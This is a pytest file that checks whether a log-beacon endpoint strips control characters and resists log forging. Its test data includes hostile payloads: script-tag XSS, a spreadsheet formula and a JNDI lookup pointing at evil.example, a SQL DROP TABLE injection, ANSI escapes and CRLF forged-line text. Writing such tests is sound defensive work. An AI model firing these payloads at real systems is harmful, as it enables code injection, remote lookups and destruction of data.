"""Hostile beacons: oversized ones, and texts that try to act where they are displayed."""

import json
import logging
from pathlib import Path
from urllib.parse import urlencode

import pytest
from starlette.testclient import TestClient

from tests.log.conftest import flush_and_read, send_beacon

HOSTILE_TEXTS = {
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "formula": '=HYPERLINK("http://evil.example","click")',
    "lookup": "${jndi:ldap://evil.example/a}",
    "ansi": "\x1b[31mred\x1b]0;title\x07",
    "newlines": "one\r\nERROR forged line\nthree",
    "template": "{{7*7}} %s %n {0}",
    "sql": "'; DROP TABLE log_entries; --",
    "nul": "a\x00b",
    "direction": "\u202egnp.exe",
}


@pytest.mark.parametrize("title", HOSTILE_TEXTS)
def test_hostile_texts_in_any_field_are_stored_without_control_characters(
    site: TestClient, database_file: Path, title: str
) -> None:
    field_names = (
        "level",
        "code",
        "name",
        "message",
        "stack",
        "step",
        "wallet",
        "method",
        "duration_ms",
        "flow",
        "other",
    )
    text = HOSTILE_TEXTS[title]
    for body in (
        urlencode(dict.fromkeys(field_names, text)).encode(),
        json.dumps(dict.fromkeys(field_names, text)).encode(),
    ):
        assert send_beacon(site, body) == 200
    for row in flush_and_read(site, database_file):
        stored_error = json.loads(row.pop("error"))
        for field in (*stored_error.values(), *(value for value in row.values() if isinstance(value, str))):
            assert not any(ord(character) < 32 and character != "\n" for character in field)
            assert "\u202e" not in field
        assert "\n" not in stored_error["message"] + stored_error["name"] + stored_error["other"]
        assert (row["level"], row["step"], row["wallet"], row["method"], row["flow"]) == ("error", "", "", "", "")
        assert row["duration_ms"] is None
        if title in {"script", "formula", "template", "sql"}:
            assert stored_error["message"] == text


def test_a_beacon_cannot_forge_lines_in_the_log_of_the_server(
    site: TestClient, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level("DEBUG")
    for text in HOSTILE_TEXTS.values():
        assert send_beacon(site, urlencode({"code": text, "message": text}).encode()) == 200
    # Ignore the logger of SQLite's driver, which logs its statements at level DEBUG. No other logger may log the texts.
    logging.getLogger("kisslock.log").debug("heard")
    log_lines = [record.getMessage() for record in caplog.records if record.name != "aiosqlite"]
    assert "heard" in log_lines
    assert not [line for line in log_lines if "forged" in line or "jndi" in line]
